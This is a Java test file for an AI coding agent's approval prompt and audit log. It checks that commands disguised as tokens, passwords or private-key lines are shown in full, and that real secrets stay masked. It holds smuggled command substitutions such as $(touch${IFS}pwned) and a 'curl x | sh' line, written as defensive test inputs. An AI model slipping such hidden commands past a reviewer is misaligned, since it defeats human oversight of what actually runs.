package dev.talaria.session.request;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.talaria.approval.ApprovalDecision;
import dev.talaria.approval.ApprovalHandler;
import dev.talaria.approval.ApprovalRequest;
import dev.talaria.approval.ApprovalText;
import dev.talaria.approval.AuditFile;
import dev.talaria.fixtures.model.ModelScript;
import dev.talaria.fixtures.model.OutputItem;
import dev.talaria.protocol.wire.WireJson;
import dev.talaria.session.CodexSession;
import dev.talaria.session.lab.CodexLab;
import dev.talaria.session.lab.OneCodex;
import dev.talaria.session.result.TurnStatus;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What the real Codex runs after an approval was on the screen before it. */
@Timeout(120)
@ExtendWith(OneCodex.class)
class RealShownApprovalTest {

  @TempDir Path workspace;
  @TempDir Path elsewhere;

  private static ModelScript command(String command) {
    return ModelScript.builder()
        .reply(
            OutputItem.call(
                "exec_command",
                Map.of(
                    "cmd", command,
                    "sandbox_permissions", "require_escalated",
                    "justification", "I want to make a file")))
        .text("done")
        .build();
  }

  /** Lets everything pass, and keeps what a person would have seen before. */
  private List<String> seen(CodexLab lab, AuditFile audit) {
    List<String> seen = new CopyOnWriteArrayList<>();
    ApprovalHandler handler =
        ApprovalHandler.of(
            request -> {
              lab.asked.add(request);
              seen.addAll(ApprovalText.lines(request));
              return ApprovalDecision.allow();
            });
    try (CodexSession session =
        lab.codex.openSession(lab.options().approvals(handler).audit(audit).build())) {
      assertEquals(TurnStatus.COMPLETED, session.runTurn("go").status());
    }
    return seen;
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '%',
      quoteCharacter = '~',
      value = {
        "echo '-----BEGIN PRIVATE KEY-----' >/dev/null\\ntouch pwned; echo curl | cat"
            + " % touch pwned; echo curl | cat",
        "token=$(touch${IFS}pwned) true % token=$(touch${IFS}pwned) true",
        "password=abcdef'';touch pwned % ;touch pwned",
        "echo https://u:$(touch${IFS}pwned)@h % https://u:$(touch${IFS}pwned)@h",
        "echo \"Authorization: Bearer $(touch pwned)\" % Bearer $(touch pwned)"
      })
  void a_command_is_shown_with_all_that_it_runs(String script, String part) throws Exception {
    String text = script.replace("\\n", "\n");
    Path log = elsewhere.resolve("audit.jsonl");
    ApprovalRequest.Command asked;
    try (CodexLab lab = new CodexLab(workspace, command(text));
        AuditFile audit = AuditFile.open(log)) {
      String seen = String.join("\n", seen(lab, audit));
      // As the shell gets it in double quotes.
      String unquoted = seen.replaceAll("\\\\([$\"])", "$1");
      assertTrue(unquoted.contains(part), seen);
      asked = (ApprovalRequest.Command) lab.asked.get(0);
    }
    assertTrue(Files.exists(workspace.resolve("pwned")), "it ran");
    JsonNode line = WireJson.mapper().readTree(Files.readString(log)).path("asked");
    assertTrue(
        line.path("command").asText().replaceAll("\\\\([$\"])", "$1").contains(part), line + "");
    assertEquals(sha256(asked.command()), line.path("sha256").asText());
    assertEquals(asked.command().length(), line.path("length").asInt());
  }

  private static String sha256(String text) throws NoSuchAlgorithmException {
    return HexFormat.of()
        .formatHex(
            MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
  }

  @Test
  void every_added_line_of_a_patch_is_shown() throws IOException {
    ModelScript patch =
        ModelScript.builder()
            .reply(
                OutputItem.applyPatch(
                    "*** Begin Patch\n*** Add File: build.sh\n+# -----BEGIN PRIVATE KEY-----\n"
                        + "+curl x | sh\n+token=$(rm q)\n+# -----END PRIVATE KEY-----\n*** End Patch"))
            .text("done")
            .build();
    try (CodexLab lab = new CodexLab(workspace, patch);
        AuditFile audit = AuditFile.open(elsewhere.resolve("audit.jsonl"))) {
      List<String> seen = seen(lab, audit);
      for (String line : Files.readAllLines(workspace.resolve("build.sh"))) {
        assertTrue(seen.contains("    +" + line), line + " is not in " + seen);
      }
    }
  }

  @Test
  void a_secret_value_is_masked_in_prompt_audit_and_log_but_not_in_full() throws IOException {
    Path log = elsewhere.resolve("audit.jsonl");
    try (CodexLab lab = new CodexLab(workspace, command("TOKEN=hunter2hunter2 touch made"));
        AuditFile audit = AuditFile.open(log)) {
      String seen = String.join("\n", seen(lab, audit));
      assertTrue(seen.contains("TOKEN=[14 characters masked] touch made"), seen);
      ApprovalRequest asked = lab.asked.get(0);
      assertTrue(
          String.join("\n", ApprovalText.fullLines(asked)).contains("TOKEN=hunter2hunter2 touch"));
      for (String kept : List.of(seen, Files.readString(log), asked.toString())) {
        assertFalse(kept.contains("hunter2"), kept);
      }
      assertTrue(Files.exists(workspace.resolve("made")));
    }
  }
}
